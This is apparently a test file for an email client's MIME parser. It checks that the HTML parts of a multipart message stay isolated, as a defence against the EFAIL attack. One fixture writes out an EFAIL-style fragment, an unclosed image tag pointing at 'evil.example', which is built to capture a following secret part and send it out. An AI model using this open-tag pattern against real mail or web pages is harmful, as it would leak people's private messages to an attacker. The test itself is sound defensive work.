// HTML parts of one message never share a document: what one leaves open must not swallow
// the next (EFAIL, CVE-2017-17688 and -17689).
import { expect, test } from 'vitest';
import { mimeLimits } from '../../../lib/mime/limits.ts';
import { parse } from '../../../lib/mime/parse.ts';

type Part = readonly [type: string, body: string];

function lettered(kind: string, parts: readonly Part[]) {
  const body = parts
    .map(([type, text]) => `--b\r\nContent-Type: ${type}\r\n\r\n${text}\r\n`)
    .join('');
  const head = `Content-Type: multipart/${kind}; boundary=b\r\n\r\n`;
  return parse(new TextEncoder().encode(`${head}${body}--b--\r\n`), { whole: true });
}

test('an image left open around a secret holds nothing of it', () => {
  const { html } = lettered('mixed', [
    ['text/html', '<img src="https://evil.example/?'],
    ['text/plain', 'the secret'],
    ['text/html', '"><p>end'],
  ]);
  expect(html).toEqual([
    { path: '1.1', html: '<img src="https://evil.example/?' },
    { path: '1.2', html: '<div style="white-space: pre-wrap">the secret</div>' },
    { path: '1.3', html: '"><p>end' },
  ]);
});

test('a tag left open in a text made of several parts hides none of them', () => {
  const letter = lettered('mixed', [
    ['text/html', '<p>one<style>'],
    ['text/html', '<p>two'],
  ]);
  expect(letter.textIsMade).toBe(true);
  expect(letter.text).toBe('one\n\ntwo');
});

test('a footer of plain text follows in a stretch of its own, escaped', () => {
  const { html, text } = lettered('mixed', [
    ['text/html', '<p>news'],
    ['text/plain', '<b>list</b> & footer'],
    ['text/plain', 'more'],
  ]);
  expect(html.map((part) => part.html)).toEqual([
    '<p>news',
    '<div style="white-space: pre-wrap">&lt;b>list&lt;/b> &amp; footer</div>' +
      '<div style="white-space: pre-wrap">more</div>',
  ]);
  expect(text).toBe('news\n<b>list</b> & footer\nmore');
});

test('alternatives are one stretch, and text alone is none', () => {
  const both = lettered('alternative', [
    ['text/plain', 'same'],
    ['text/html', '<p>same'],
  ]);
  expect(both.html).toEqual([{ path: '1.2', html: '<p>same' }]);
  expect(lettered('mixed', [['text/plain', 'x']]).html).toEqual([]);
});

test('more parts than frames can be shown come as files', () => {
  const parts = Array.from({ length: 100 }, (_, n): Part => ['text/html', `<p>${n}`]);
  const { html, attachments } = lettered('mixed', parts);
  expect(html).toHaveLength(mimeLimits.htmlParts);
  expect(attachments).toHaveLength(100 - mimeLimits.htmlParts);
});
